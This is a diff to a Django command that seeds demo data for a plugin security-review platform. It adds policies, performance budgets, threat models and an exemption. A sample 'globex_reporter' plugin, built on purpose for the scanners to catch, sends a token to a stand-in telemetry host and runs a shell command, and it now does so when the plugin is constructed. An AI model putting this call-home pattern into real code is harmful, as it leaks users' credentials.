@@ -3,28 +3,34 @@ versions in every lifecycle state, all made through the services (so the audit l
 history are real). Running it again changes nothing and prints the logins.
 """
 
-from datetime import date, time
+from datetime import date, time, timedelta
 from pathlib import Path
 
 import yaml
+from django.conf import settings
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management.base import BaseCommand
 from django.db import transaction
+from django.utils import timezone
 
 from compliance.evidence import assessment_decide, compliance_sign_off, evidence_upload
 from compliance.models import Checklist, Control, ControlAssessment
 from compliance.services import framework_import
 from governance import roles
 from governance.models import AllowedLicence, HostPlatform, ReviewerProfile, WorkingCalendar
+from governance.policies import policies_sync, policy_files_load
+from governance.risk.exemptions import exemption_approve, exemption_request
+from governance.risk.services import rubric_current
 from governance.services import pipeline_install_defaults
 from reviews import services as review
 from reviews.checks.engine import check_run_execute
-from reviews.models import ReviewerQualification, ReviewStatus, RunStatus
+from reviews.models import PerformanceBudget, ReviewerQualification, ReviewStatus, RunStatus
+from reviews.threat_model import threat_model_prefill, threat_model_submit
 from submissions import services as sub
 from submissions.models import Organisation
-from submissions.samples import plugin_archive
+from submissions.samples import MANIFEST_TEMPLATE, plugin_archive
 
 DEFAULT_FRAMEWORK = Path(__file__).resolve().parents[3] / "compliance" / "frameworks" / "default.yaml"
 PASSWORD = "warden-demo"  # noqa: S105 - demo logins, printed on purpose
@@ -72,7 +78,33 @@ def report(stats):
     urllib.request.urlopen("http://telemetry.globex.example/collect?t=" + token, data=body)
     subprocess.call("uptime >> /tmp/globex.log", shell=True)
 """,
+    # ... and calls home as soon as the host constructs it: the sandbox sees it happen.
+    "globex_reporter/plugin.py": b"""from .telemetry import report
+
+
+class Plugin:
+    def __init__(self, host=None):
+        try:
+            report({"started": True})
+        except OSError:
+            pass
+""",
 }
+
+# acme-exporter names a benchmark, so the performance harness measures latency under load;
+# 1.4.0 got slower per call than 1.3.0, so its review shows a regression.
+EXPORTER_SECONDS_PER_CALL = {"1.2.0": 0.002, "1.3.0": 0.002, "1.4.0": 0.004, "1.5.0": 0.004}
+EXPORTER = """import time
+
+
+class Plugin:
+    def __init__(self, host=None):
+        self.host = host
+
+
+def bench():
+    time.sleep({seconds})
+"""
 
 
 class Command(BaseCommand):
@@ -85,11 +117,24 @@ class Command(BaseCommand):
         with transaction.atomic():
             users = self._users()
             pipeline_install_defaults(actor=users["platform"])
-            HostPlatform.objects.create(
+            rubric_current()  # the default rubric (docs/rubric.md)
+            policies_sync(documents=policy_files_load(directory=settings.WARDEN_POLICY_DIR), actor=users["platform"])
+            host = HostPlatform.objects.create(
                 name="Acme Cloud",
                 api_version="2.4",
                 is_default=True,
                 resource_limits={"memory_mb": 256, "cpu_seconds": 10, "startup_ms": 500},
+            )
+            PerformanceBudget.objects.create(
+                host_platform=host,
+                category="data-connector",
+                startup_ms=400,
+                peak_rss_mb=128,
+                cpu_ms=300,
+                latency_p95_ms=25,
+                throughput_rps=200,
+                typical_threads=4,
+                peak_threads=16,
             )
             for spdx in ("MIT", "Apache-2.0", "BSD-3-Clause"):
                 AllowedLicence.objects.create(spdx_id=spdx)
@@ -126,8 +171,22 @@ class Command(BaseCommand):
                         organisation=orgs[org], name=name, category="data-connector", actor=users[f"{org}-author"]
                     )
                 self._drive(plugins[name], number, state, users, users[f"{org}-author"])
+            self._exemption(plugins["acme-notifier"], users)
         if verbosity:
             self._print_logins("Demo data loaded.")
+
+    def _exemption(self, plugin, users: dict) -> None:
+        """A sample exemption, asked for by the vendor and approved by the board."""
+        exemption = exemption_request(
+            actor=users["acme-author"],
+            plugin=plugin,
+            scope="plugin",
+            policy_key="no-serious-vulnerable-dependencies",
+            justification="The advisory is in an optional extra we do not install; the fix ships next release.",
+            compensating_controls=["The extra is not installed on the host", "Egress limited to api.acme.example"],
+            expires_at=timezone.now() + timedelta(days=90),
+        )
+        exemption_approve(exemption=exemption, actor=users["board"], reason="Demo: compensating controls seen.")
 
     def _users(self) -> dict:
         User = get_user_model()
@@ -147,10 +206,7 @@ class Command(BaseCommand):
 
     def _drive(self, plugin, number: str, state: str, users: dict, author) -> None:
         """Take one new version through the services to ``state``."""
-        files = TELEMETRY if state == "rejected" else None  # something real for the scanners to find
-        version = sub.version_create(
-            plugin=plugin, artifact=plugin_archive(plugin.name, number, files=files), actor=author
-        )
+        version = sub.version_create(plugin=plugin, artifact=self._archive(plugin, number, state), actor=author)
         if state == "draft":
             return
         sub.version_submit(version=version, actor=author)
@@ -163,6 +219,8 @@ class Command(BaseCommand):
             return
         if state == "in_review":
             review.stage_claim(review=self._review(version, "security"), actor=users["security"])
+            threat_model = threat_model_prefill(version=version, actor=author)
+            threat_model_submit(threat_model=threat_model, actor=author)
             evidence_upload(
                 version=version,
                 controls=list(Control.objects.filter(key="sub-processors")),
@@ -200,6 +258,22 @@ class Command(BaseCommand):
                 sub.version_roll_back(
                     version=version, actor=users["platform"], reason="Error rate doubled after release."
                 )
+
+    def _archive(self, plugin, number: str, state: str) -> SimpleUploadedFile:
+        if state == "rejected":
+            return plugin_archive(plugin.name, number, files=TELEMETRY)  # something real for the scanners
+        if plugin.name != "acme-exporter":
+            return plugin_archive(plugin.name, number)
+        manifest = MANIFEST_TEMPLATE.format(
+            name=plugin.name, version=number, module="acme_exporter", category=plugin.category
+        )
+        source = EXPORTER.format(seconds=EXPORTER_SECONDS_PER_CALL[number])
+        return plugin_archive(
+            plugin.name,
+            number,
+            manifest=manifest + '\n[performance]\nbenchmark = "acme_exporter.plugin:bench"\n',
+            files={"acme_exporter/plugin.py": source.encode()},
+        )
 
     def _run_checks(self, version) -> None:
         """Run the queued checks here rather than in the worker, so the demo is complete
